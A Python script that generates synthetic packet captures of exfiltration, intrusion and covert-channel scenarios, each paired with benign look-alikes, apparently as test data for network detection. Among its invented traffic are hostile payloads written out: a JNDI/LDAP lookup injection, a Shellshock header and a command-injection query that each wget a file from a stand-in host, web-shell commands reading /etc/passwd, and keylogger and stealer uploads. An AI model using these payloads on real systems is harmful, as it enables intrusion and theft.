#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""theft.py SCENARIO OUT.pcap | theft.py list: thefts in the clear and what only looks like them, as a capture at the gateway's
inside. Names, addresses and contents are invented; the same bytes in every run."""
import base64
import gzip
import io
import struct
import sys
import zipfile

from talk import MS, T0, Tcp, Wire, echo, lookup, noise, udp

CLIENT, OTHER, THIRD, SERVER = "10.20.1.10", "10.20.1.11", "10.20.1.12", "10.20.2.20"
AWAY, AWAY2, AWAY3 = "203.0.113.20", "203.0.113.21", "203.0.113.22"
SECOND = 10**9


def head(first, *fields, body=b""):
    lines = [first, *fields]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


OK = head("HTTP/1.1 200 OK", "Content-Type: text/html", body=b"ok")


def exchange(wire, time, client, server, request, reply=OK, port=40001):
    return Tcp(wire, time, (client, port), server).say(request).answer(reply).close()


def credential_post(wire):
    """Reports of 300 bytes, once a minute, by what calls itself a browser; the first lists what the machine is."""
    time = lookup(wire, T0, CLIENT, "panel.example.net", AWAY)
    for i in range(4):
        body = noise(300, seed=i + 1)
        exchange(wire, time, CLIENT, (AWAY, 80), head(
            "POST /in/gate.php HTTP/1.0", "User-Agent: Mozilla/5.0 (Windows NT 10.0)", "Host: panel.example.net", "Accept: */*",
            "Content-Type: application/octet-stream", "Connection: close", body=body), port=40001 + i)
        time += 60 * SECOND


BROWSER = ("User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", "Accept: text/html",
           "Accept-Language: en-GB,en;q=0.5", "Accept-Encoding: gzip, deflate")


def benign_posts(wire):
    """What an office posts: a login form, telemetry in JSON, an OCSP question, a tool's upload, a compressed inventory."""
    time = lookup(wire, T0, CLIENT, "shop.example.net", AWAY)
    time = exchange(wire, time, CLIENT, (AWAY, 80), head(
        "POST /login.php HTTP/1.1", "Host: shop.example.net", *BROWSER, "Referer: http://shop.example.net/", "Cookie: a=b",
        "Content-Type: application/x-www-form-urlencoded", body=b"user=jo&pass=secret&os=&go=1"))
    time = lookup(wire, time + SECOND, CLIENT, "stats.example.org", AWAY2)
    for i in range(6):
        time = exchange(wire, time + 60 * SECOND, CLIENT, (AWAY2, 80), head(
            "POST /v1/t HTTP/1.1", "Host: stats.example.org", "User-Agent: Editor/4.1", "Content-Type: application/json",
            body=b'{"os":"linux","user":"7f","hwid":"12","events":[1,2,3]}'), port=41000 + i)
    time = lookup(wire, time, CLIENT, "ocsp.example.com", AWAY3)
    time = exchange(wire, time, CLIENT, (AWAY3, 80), head(
        "POST / HTTP/1.1", "Host: ocsp.example.com", *BROWSER, "Content-Type: application/ocsp-request",
        body=b"\x30\x51\x30\x4f" + noise(79)), port=42000)
    time = lookup(wire, time, OTHER, "builds.example.org", AWAY2)
    time = exchange(wire, time, OTHER, (AWAY2, 80), head(
        "POST /upload HTTP/1.1", "Host: builds.example.org", "User-Agent: curl/7.88.1", "Accept: */*",
        "Content-Type: application/octet-stream", body=noise(900)), port=43000)
    exchange(wire, time, OTHER, (AWAY2, 80), head(
        "POST /inventory HTTP/1.1", "Host: builds.example.org", "User-Agent: Inventory/2.6", "Content-Encoding: gzip",
        "Content-Type: application/octet-stream", body=b"\x1f\x8b\x08\x00" + noise(4000)), port=43001)


def web_exploit(wire):
    """A look-up in a header; the server fetches by LDAP from the address that it names."""
    exchange(wire, T0, AWAY, (SERVER, 8080), head(
        "GET /app HTTP/1.1", "Host: app.corp.example.test", "User-Agent: Mozilla/5.0",
        "X-Api-Version: ${${lower:j}ndi:${lower:ldap}://203.0.113.21:1389/o=run}"), port=50001)
    Tcp(wire, T0 + 30 * MS, (SERVER, 45000), (AWAY2, 1389)).say(b"0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00").answer(
        b"0\x0c\x02\x01\x01a\x07\n\x01\x00\x04\x00\x04\x00").close()


def benign_web_scan(wire):
    """The same from a scanner, to a server that does not care: attempts of three kinds, no call."""
    time = T0
    for i, field in enumerate(("User-Agent: ${jndi:ldap://203.0.113.21:1389/a}", "User-Agent: () { :; }; /usr/bin/wget http://203.0.113.21/x",
                               "Referer: ${jndi:dns://probe.example.net/a}")):
        time = exchange(wire, time, AWAY, (SERVER, 80), head("GET / HTTP/1.1", "Host: www.corp.example.test", field), port=50001 + i)
    exchange(wire, time, AWAY, (SERVER, 80), head(
        "GET /cgi?ip=1;wget+http://203.0.113.21/x.sh HTTP/1.1", "Host: www.corp.example.test"), port=50009)


def web_shell(wire):
    """One client works through a script: commands as fields, output as answers, then an upload."""
    time, port = T0, 50001
    for command, output in (("whoami", "www-data\n"), ("uname+-a", "Linux web1 6.1.0 GNU/Linux\n"),
                            ("id%3Bls+-la+..", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\ndrwxr-xr-x 2 root root 4096 .\n"),
                            ("cat+/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/bin/sh\n")):
        reply = head("HTTP/1.1 200 OK", "Content-Type: text/html", body=b"<pre>" + output.encode() + b"</pre>")
        time = exchange(wire, time + 9 * SECOND, AWAY, (SERVER, 80), head(
            "POST /upload/img_7.php HTTP/1.1", "Host: www.corp.example.test", *BROWSER,
            "Content-Type: application/x-www-form-urlencoded", body=f"k=7&cmd={command}".encode()), reply, port)
        port += 1
    code = base64.b64encode(b'@ini_set("display_errors","0");@set_time_limit(0);echo("->|");echo(getcwd());')
    exchange(wire, time + 9 * SECOND, AWAY, (SERVER, 80), head(
        "POST /upload/img_7.php HTTP/1.1", "Host: www.corp.example.test", *BROWSER,
        "Content-Type: application/x-www-form-urlencoded", body=b"k=8&z0=" + code.replace(b"+", b"%2B").replace(b"=", b"%3D")), OK, port)


def program():
    """The begin of a program for Windows: enough of one for its head to make sense."""
    dos = bytearray(128)
    dos[:8] = b"MZ\x90\0\3\0\0\0"
    struct.pack_into("<I", dos, 0x3C, 128)
    return bytes(dos) + b"PE\0\0d\x86" + noise(3000)


def executable_download(wire):
    """A program under the name of a picture, from an address that nobody asked for by name."""
    exchange(wire, T0, CLIENT, (AWAY, 80), head("GET /img/logo.jpg HTTP/1.1", "Host: 203.0.113.20", "User-Agent: Mozilla/4.0"),
             head("HTTP/1.1 200 OK", "Content-Type: image/jpeg", body=program()))


def locked_zip(length):
    member = b"finance/2026.xlsx"
    return b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 1, 8, 0, 0, 0, length, length, len(member), 0) + member + noise(length)


def http_archive_put(wire):
    """An encrypted zip of 20 kB stored by PUT on a bare address; below the floor of upload_volume."""
    exchange(wire, T0, CLIENT, (AWAY, 8000), head(
        "PUT /d/a1.zip HTTP/1.1", "Host: 203.0.113.20:8000", "User-Agent: python-requests/2.28.1", "Accept-Encoding: gzip, deflate",
        "Accept: */*", body=locked_zip(20000)))


def benign_uploads(wire):
    """A photograph by browser, a plain archive of logs by a product that names itself, a document put on an inside server."""
    time = lookup(wire, T0, CLIENT, "photos.example.net", AWAY)
    form = (b'--b\r\nContent-Disposition: form-data; name="f"; filename="p.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0' +
            noise(4000) + b"\r\n--b--\r\n")
    time = exchange(wire, time, CLIENT, (AWAY, 80), head(
        "POST /up HTTP/1.1", "Host: photos.example.net", *BROWSER, "Referer: http://photos.example.net/",
        "Content-Type: multipart/form-data; boundary=b", body=form))
    time = lookup(wire, time, CLIENT, "support.example.org", AWAY2)
    time = exchange(wire, time, CLIENT, (AWAY2, 80), head(
        "POST /logs HTTP/1.1", "Host: support.example.org", "User-Agent: Printer/9.1", "Content-Type: application/zip",
        body=b"PK\x03\x04\x14\x00\x00\x00" + bytes(18) + b"\x05\x00\x00\x00a.log" + noise(4000)), port=41000)
    exchange(wire, time, CLIENT, (SERVER, 80), head(
        "PUT /dav/store.kdbx HTTP/1.1", "Host: files.corp.example.test", "User-Agent: davfs2/1.6", body=b"\x03\xd9\xa2\x9a" + noise(3000)), port=42000)


def submit(wire, time, client, server, helo, mails, login=None, port=46000):
    """A session of submission in the clear: (sender, recipient, text) each."""
    talk = Tcp(wire, time, (client, port), server).answer(b"220 mx.example.net ESMTP ready\r\n")
    talk.say(b"EHLO " + helo.encode() + b"\r\n").answer(b"250-mx.example.net\r\n250 AUTH LOGIN\r\n")
    if login:
        talk.say(b"AUTH LOGIN\r\n").answer(b"334 VXNlcm5hbWU6\r\n").say(base64.b64encode(login.encode()) + b"\r\n")
        talk.answer(b"334 UGFzc3dvcmQ6\r\n").say(base64.b64encode(b"not a secret") + b"\r\n").answer(b"235 welcome\r\n")
    for sender, recipient, text in mails:
        talk.say(f"MAIL FROM:<{sender}>\r\n".encode()).answer(b"250 ok\r\n").say(f"RCPT TO:<{recipient}>\r\n".encode())
        talk.answer(b"250 ok\r\n").say(b"DATA\r\n").answer(b"354 go on\r\n").say(text.replace(b"\n", b"\r\n") + b"\r\n.\r\n")
        talk.answer(b"250 queued\r\n")
    return talk.say(b"QUIT\r\n").answer(b"221 bye\r\n").close()


def attached(first, kind, name, data):
    """A mail of a text and one attachment."""
    body = base64.encodebytes(data)
    return (f"{first}MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=part\n\n--part\nContent-Type: text/html\n\n").encode(), (
        f"\n--part\nContent-Type: {kind}; name=\"{name}\"\nContent-Transfer-Encoding: base64\n"
        "Content-Disposition: attachment\n\n").encode() + body + b"--part--"


def mail_exfil(wire):
    """A keylogger's two reports to its own account: passwords, then a picture of the screen."""
    time = lookup(wire, T0, CLIENT, "api.ipify.org", AWAY3)
    time = lookup(wire, time + SECOND, CLIENT, "smtp.example.net", AWAY)
    about = b"Time: 09/21/2026<br>User Name: jo<br>Computer Name: FRONT-07<br>OSFullName: Windows 10<br>CPU: x<br>RAM: 8 GB<br>"
    words = b"<hr>URL: https://bank.example/<br>Username: jo<br>Password: not-a-secret<br>Application: browser<br>"
    start, end = attached("From: box@example.net\nTo: box@example.net\nSubject: SC_jo/FRONT-07\n", "image/jpeg", "SC_1.jpeg",
                          b"\xff\xd8\xff\xe0\x00\x10JFIF" + noise(9000))
    submit(wire, time, CLIENT, (AWAY, 587), "FRONT-07", [
        ("box@example.net", "box@example.net", b"From: box@example.net\nTo: box@example.net\nSubject: PW_jo/FRONT-07\n"
         b"Content-Type: text/html\n\n" + about + words), ("box@example.net", "box@example.net", start + about + end)], "box@example.net")


def benign_mail(wire):
    """A person's mail with a document, a storage box that reports outside, a scanner's page to the own server, and a relay."""
    time = lookup(wire, T0, CLIENT, "mail.example.org", AWAY)
    start, end = attached("From: jo@example.org\nTo: lee@example.com\nSubject: minutes\nMessage-ID: <1@example.org>\nUser-Agent: Mail/102\n",
                          "application/pdf", "minutes.pdf", b"%PDF-1.7 " + noise(3000))
    time = submit(wire, time, CLIENT, (AWAY, 587), "[10.20.1.10]", [("jo@example.org", "lee@example.com", start + b"See below." + end)],
                  "jo@example.org")
    state = b"From: nas@example.org\nTo: nas@example.org\nSubject: [STORE-02] disk 3 is healthy\n\nHost: STORE-02\nOS version: 7.2\nCPU: 12 %\n"
    time = submit(wire, time, "10.20.1.12", (AWAY, 25), "STORE-02", [("nas@example.org", "nas@example.org", state)])
    start, end = attached("From: scan@corp.example.test\nTo: jo@corp.example.test\nSubject: Scan from PRINT-03\n", "application/pdf",
                          "scan_20260921.pdf", b"%PDF-1.4 " + noise(3000))
    time = submit(wire, time, "10.20.1.13", (SERVER, 25), "PRINT-03", [("scan@corp.example.test", "jo@corp.example.test", start + end)])
    for i in range(60):
        time = submit(wire, time, SERVER, (AWAY2, 25), "mx.corp.example.test", [
            ("jo@corp.example.test", f"a{i}@example.com", b"Received: from x by y\nMessage-ID: <2@x>\nSubject: hello\n\nhello")], port=47000 + i)


def mail_spam(wire):
    """A client writes to fifty strangers under ever new names."""
    time = T0
    for i in range(50):
        time = submit(wire, time + SECOND, CLIENT, (AWAY if i % 2 else AWAY2, 25), "localhost", [
            (f"n{i % 9}@example.org", f"s{i}@example.com", b"Subject: offer\nMessage-ID: <1@x>\n\nhello")], port=46000 + i)


def store(wire, time, client, server, names, looks=False, port=44000):
    """A session of FTP that stores files of 900 bytes each, passively; `looks`: lists the folder first."""
    talk = Tcp(wire, time, (client, port), (server, 21)).answer(b"220 FTP server ready\r\n")
    for line, reply in (("USER jo", "331 password"), ("PASS not-a-secret", "230 welcome"), ("TYPE I", "200 ok")):
        talk.say(line.encode() + b"\r\n").answer(reply.encode() + b"\r\n")
    if looks:
        talk.say(b"PASV\r\n").answer(b"227 at (" + server.replace(".", ",").encode() + b",200,1)\r\n")
        data = Tcp(wire, talk.time, (client, port + 500), (server, 51201))
        talk.say(b"MLSD\r\n").answer(b"150 here\r\n")
        data.answer(b"type=file;size=1; a\r\n").close()
        talk.answer(b"226 done\r\n")
    for i, name in enumerate(names):
        talk.say(b"PASV\r\n").answer(b"227 at (" + server.replace(".", ",").encode() + b",200," + str(10 + i).encode() + b")\r\n")
        data = Tcp(wire, talk.time, (client, port + 100 + i), (server, 51210 + i))
        talk.say(f"STOR {name}\r\n".encode()).answer(b"150 go on\r\n")
        data.say(b"<html>" + b"x" * 900).close()
        talk.answer(b"226 done\r\n").wait(1)
    return talk.say(b"QUIT\r\n").answer(b"221 bye\r\n").close()


def ftp_exfil(wire):
    """A stealer stores its report under user, machine and time."""
    time = lookup(wire, T0, CLIENT, "api.ipify.org", AWAY3)
    time = lookup(wire, time, CLIENT, "ftp.example.net", AWAY)
    store(wire, time, CLIENT, AWAY, ["PW_jo-DESKTOP-4QX71_2026_09_21_14_13_22.html"])


def benign_ftp(wire):
    """A person's upload after a listing, a camera's pictures, a backup named for its host, a report to an inside server."""
    time = store(wire, T0, CLIENT, AWAY, ["index.html", "style.css"], looks=True)
    time = store(wire, time, "10.20.1.12", AWAY2, [f"cam2_20260921{14 + i}0000.jpg" for i in range(6)], port=44600)
    time = store(wire, time, "10.20.1.13", AWAY2, ["backup_DESKTOP-4QX71_20260921_1400.tar.gz"], port=45200)
    store(wire, time, CLIENT, SERVER, ["report_DESKTOP-4QX71_2026_09_21_15.txt"], port=45800)


def covert_time(wire):
    """A sentence in the gaps between pings: 140 ms is a nought, 310 ms a one; the payload is ping's own."""
    time, fill = T0, bytes(range(56))
    bits = "".join(f"{letter:08b}" for letter in b"the vault opens at nine")
    for seq, bit in enumerate(bits):
        echo(wire, time, CLIENT, AWAY, 77, seq, fill)
        echo(wire, time + 9 * MS, AWAY, CLIENT, 77, seq, fill, reply=True)
        time += (310 if bit == "1" else 140) * MS


def covert_addresses(wire):
    """A sentence in the last bytes of addresses that nobody has, its order in the byte before."""
    for place, letter in enumerate(b"Meet me at nine by the old mill"):
        echo(wire, T0 + place * 2 * SECOND, CLIENT, f"198.51.{place}.{letter}", 5, place, bytes(range(48)))


def benign_pings(wire):
    """A ping that loses every fourth packet, one that traces a way in bursts, a monitor's round of hosts, a sweep of a net."""
    fill, time, state = bytes(range(56)), T0, 7
    for seq in range(200):
        state = state * 1664525 + 1013904223 & 0xFFFFFFFF
        if state >> 24 > 64:
            echo(wire, time + seq * SECOND, CLIENT, AWAY, 1, seq, fill)
            echo(wire, time + seq * SECOND + 9 * MS, AWAY, CLIENT, 1, seq, fill, reply=True)
    for seq in range(200):
        at = time + (seq // 3) * SECOND + (seq % 3) * 130 * MS
        echo(wire, at, OTHER, AWAY2, 2, seq, fill)
        echo(wire, at + 9 * MS, AWAY2, OTHER, 2, seq, fill, reply=True)
    for seq in range(200):
        host = f"10.20.2.{(33, 97, 45, 120, 60, 88, 101, 40, 110, 77)[seq % 10]}"
        echo(wire, time + seq * 500 * MS, "10.20.1.12", host, 3, seq, fill)
        echo(wire, time + seq * 500 * MS + 2 * MS, host, "10.20.1.12", 3, seq, fill, reply=True)


def raw_screens(wire):
    """Five pictures of the screen, one every ten seconds, each over a connection of its own, in a protocol of nobody's."""
    for i in range(5):
        Tcp(wire, T0 + i * 10 * SECOND, (CLIENT, 40001 + i), (AWAY, 4433)).answer(b"\x02\x10GO\x00\x01").say(
            b"\x02\x11PIC\x00" + noise(30000 + 90 * i, seed=i + 1)).close()


def benign_streams(wire):
    """One-way traffic of an office: print jobs to port 9100, measurements of three hosts to one collector, a nightly dump."""
    for i in range(6):
        Tcp(wire, T0 + i * 15 * SECOND, (CLIENT, 40001 + i), ("10.20.2.21", 9100)).say(b"\x1b%-12345X@PJL " + noise(20000, seed=i + 1)).close()
    for i in range(9):
        Tcp(wire, T0 + i * 5 * SECOND, (f"10.20.1.{10 + i % 3}", 41001 + i), ("10.20.2.22", 7300)).say(
            b"\x01\x07" + noise(17000, seed=i + 1)).close()
    Tcp(wire, T0, ("10.20.1.13", 42001), (SERVER, 7301)).say(b"\x01\x08" + noise(60000)).close()


def peer_file(wire):
    """A messenger's file from host to host: the receiver connects, the sender announces a document."""
    data = b"PK\x03\x04\x14\0\6\0" + bytes(18) + b"\x13\0\0\0[Content_Types].xml" + noise(5000)
    head = bytearray(256)
    head[:8], head[20:28] = b"OFT2\x01\x00\x01\x01", b"\0\1" * 4
    struct.pack_into(">II", head, 28, len(data), len(data))
    head[192:201] = b"plan.docx"
    go = bytearray(head)
    go[6:8] = b"\x02\x02"
    Tcp(wire, T0, (OTHER, 40001), (CLIENT, 5190)).answer(bytes(head)).say(bytes(go)).answer(data).close()


def ntp(wire, time, client, server, rest, reply=b""):
    """A question to a time server, and what it answers."""
    udp(wire, time, (client, 40123), (server, 123), b"\x23" + rest)
    if reply:
        udp(wire, time + 9 * MS, (server, 123), (client, 40123), b"\x24" + reply)


def ntp_channel(wire):
    """A file in what clocks leave alone: 32 bytes a question, ten a second, to a server that never answers."""
    data = noise(8000)
    for i in range(0, len(data), 32):
        ntp(wire, T0 + i // 32 * 100 * MS, CLIENT, AWAY, bytes(15) + data[i:i + 32])


def benign_ntp(wire):
    """A clock's eight questions at its start, then one a minute; NTS with its cookies; one that asks each second and is not answered."""
    for i in range(20):
        at = T0 + (i * 2 if i < 8 else 16 + (i - 8) * 64) * SECOND
        stamp = struct.pack(">II", 3990000000 + i, i * 7919)
        ntp(wire, at, CLIENT, AWAY, b"\x02\x06\xe8" + bytes(12) + stamp * 3 + stamp, b"\x02\x06\xe8" + bytes(12) + stamp * 4)
        fields = b"\x01\x04\x00\x24" + noise(32, seed=i + 1) + b"\x02\x04\x00\x68" + noise(100, seed=i + 50)
        ntp(wire, at + SECOND, OTHER, AWAY, bytes(39) + stamp + fields, bytes(47) + fields)
    for i in range(300):
        ntp(wire, T0 + i * SECOND, "10.20.1.12", AWAY2, bytes(39) + struct.pack(">II", 3990000000 + i, i))


def luhn(digits):
    """The digits with the check digit that ISO/IEC 7812 wants."""
    total = 0
    for i, c in enumerate(reversed(digits)):
        v = int(c) * (2 if i % 2 == 0 else 1)
        total += v - 9 if v > 9 else v
    return digits + str(-total % 10)


def invented_cards(count):
    """Numbers of no bank: of the form that is checked, from a fixed sequence."""
    return [luhn("4539" + f"{(i + 1) * 7919 * 104729 % 10**11:011d}") for i in range(count)]


def sensitive_content(wire):
    """A list of cards within base64 in a form, by chunks; a minute later a private key in another one's paste."""
    rows = "name,card,valid\n" + "".join(f"Person {i},{n},11/2{i % 9}\n" for i, n in enumerate(invented_cards(120)))
    coded = base64.b64encode(rows.encode()).replace(b"+", b"%2B").replace(b"/", b"%2F").replace(b"=", b"%3D")
    body = b"id=7&data=" + coded
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in (body[i:i + 997] for i in range(0, len(body), 997))) + b"0\r\n\r\n"
    time = lookup(wire, T0, CLIENT, "collect.example.net", AWAY)
    request = head("POST /in HTTP/1.1", "Host: collect.example.net", *BROWSER, "Content-Type: application/x-www-form-urlencoded",
                   "Transfer-Encoding: chunked") + chunks
    time = exchange(wire, time, CLIENT, (AWAY, 80), request)
    key = b"-----BEGIN RSA PRIVATE KEY-----\n" + b"\n".join(
        base64.b64encode(noise(48, seed=i + 1)) for i in range(24)) + b"\n-----END RSA PRIVATE KEY-----\n"
    exchange(wire, time + 60 * SECOND, OTHER, (AWAY2, 80), head(
        "POST /paste HTTP/1.1", "Host: text.example.org", *BROWSER, "Content-Type: text/plain", body=b"for later:\n" + key), port=40009)


def smb_write(data):
    """A WRITE of SMB 2 to a file that was opened before (MS-SMB2 2.2.21)."""
    header = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 1, 0, 9, 1, 0, 0, 7, 0, 1, 1, bytes(16))
    body = header + struct.pack("<HHIQQQIIHHI", 49, 112, len(data), 0, 1, 1, 0, 0, 0, 0, 0) + data
    return struct.pack(">I", len(body)) + body


def sheet(rows):
    """A workbook as office programs write it: an archive of XML, each text between tags."""
    cells = "".join("<row>" + "".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in row) + "</row>" for row in rows)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>"),
                           ("xl/worksheets/sheet1.xml", f"<worksheet><sheetData>{cells}</sheetData></worksheet>")):
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), text, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def content_carriers(wire):
    """A list of cards leaves an inside web server in a packed answer; others put it on a share outside as UTF-16, push it
    by a bare socket, and post it as a workbook."""
    rows = "name,card,valid\r\n" + "".join(f"Person {i},{n},11/2{i % 9}\r\n" for i, n in enumerate(invented_cards(120)))
    packed = gzip.compress(rows.encode(), mtime=0)
    exchange(wire, T0, AWAY, (SERVER, 80), head("GET /export.csv HTTP/1.1", "Host: shop.example.net", *BROWSER),
             head("HTTP/1.1 200 OK", "Content-Type: text/csv", "Content-Encoding: gzip", body=packed), port=50001)
    Tcp(wire, T0 + 60 * SECOND, (CLIENT, 40021), (AWAY2, 445)).say(smb_write(b"\xff\xfe" + rows.encode("utf-16-le"))).close()
    Tcp(wire, T0 + 120 * SECOND, (OTHER, 40031), (AWAY3, 4444)).say(rows.encode()).close()
    Tcp(wire, T0 + 180 * SECOND, (THIRD, 40041), (AWAY3, 4444)).say(sheet(row.split(",") for row in rows.split("\r\n"))).close()


def benign_carriers(wire):
    """An inside server's page with its own bank account, to the outside; a share within; a picture, an empty list and a workbook
    of orders by a socket."""
    page = b"<p>Pay to DE89 3704 0044 0532 0130 00, order 4539578763621486.</p>" + b"<p>tea and bread</p>" * 200
    exchange(wire, T0, AWAY, (SERVER, 80), head("GET / HTTP/1.1", "Host: shop.example.net", *BROWSER),
             head("HTTP/1.1 200 OK", "Content-Type: text/html", "Content-Encoding: gzip", body=gzip.compress(page, mtime=0)), port=50001)
    rows = "name,card\r\n" + "".join(f"Person {i},{n}\r\n" for i, n in enumerate(invented_cards(40)))
    Tcp(wire, T0 + 60 * SECOND, (CLIENT, 40021), (SERVER, 445)).say(smb_write(rows.encode())).close()
    Tcp(wire, T0 + 120 * SECOND, (OTHER, 40031), (AWAY3, 4444)).say(b"\x89PNG\r\n\x1a\n" + noise(9000)).close()
    Tcp(wire, T0 + 180 * SECOND, (OTHER, 40032), (AWAY3, 4445)).say(b"name,card,valid\r\n" * 40).close()
    orders = [("order", "sum", "day")] + [(f"{4400000000000000 + 7919 * i * i}", f"{i * 13 % 90}.50", f"{i % 28 + 1}.9.") for i in range(300)]
    Tcp(wire, T0 + 240 * SECOND, (OTHER, 40033), (AWAY3, 4445)).say(sheet(orders)).close()


def benign_checkout(wire):
    """A shop's order with one card, an invoice with an account, a number that only has a card's length, tokens of a session."""
    time = lookup(wire, T0, CLIENT, "shop.example.net", AWAY)
    time = exchange(wire, time, CLIENT, (AWAY, 80), head(
        "POST /pay HTTP/1.1", "Host: shop.example.net", *BROWSER, "Referer: http://shop.example.net/", "Cookie: a=b",
        "Content-Type: application/x-www-form-urlencoded",
        body=b"name=Jo+Example&card=" + invented_cards(1)[0].encode() + b"&exp=11%2F29&cvc=123"))
    time = exchange(wire, time + SECOND, CLIENT, (AWAY, 80), head(
        "POST /invoice HTTP/1.1", "Host: shop.example.net", *BROWSER, "Content-Type: text/plain",
        body=b"Please pay to DE89 3704 0044 0532 0130 00, order 4539578763621486."), port=40002)
    token = b".".join(base64.urlsafe_b64encode(t).rstrip(b"=") for t in (b'{"alg":"HS256","typ":"JWT"}', b'{"sub":"jo","iat":1}', noise(32)))
    exchange(wire, time + SECOND, CLIENT, (AWAY, 80), head(
        "POST /api HTTP/1.1", "Host: shop.example.net", *BROWSER, "Content-Type: application/json",
        body=b'{"session":"' + token + b'"}'), port=40003)


SCENARIOS = {f.__name__: f for f in (
    credential_post, benign_posts, web_exploit, benign_web_scan, web_shell, executable_download, http_archive_put, benign_uploads,
    mail_exfil, benign_mail, mail_spam, ftp_exfil, benign_ftp, covert_time, covert_addresses, benign_pings, raw_screens, benign_streams,
    peer_file, ntp_channel, benign_ntp, sensitive_content, content_carriers, benign_carriers,
    benign_checkout)}


def main():
    if len(sys.argv) == 2 and sys.argv[1] == "list":
        print("\n".join(SCENARIOS))
        return
    if len(sys.argv) != 3 or sys.argv[1] not in SCENARIOS:
        raise SystemExit(__doc__)
    wire = Wire()
    SCENARIOS[sys.argv[1]](wire)
    wire.write(sys.argv[2])


if __name__ == "__main__":
    main()
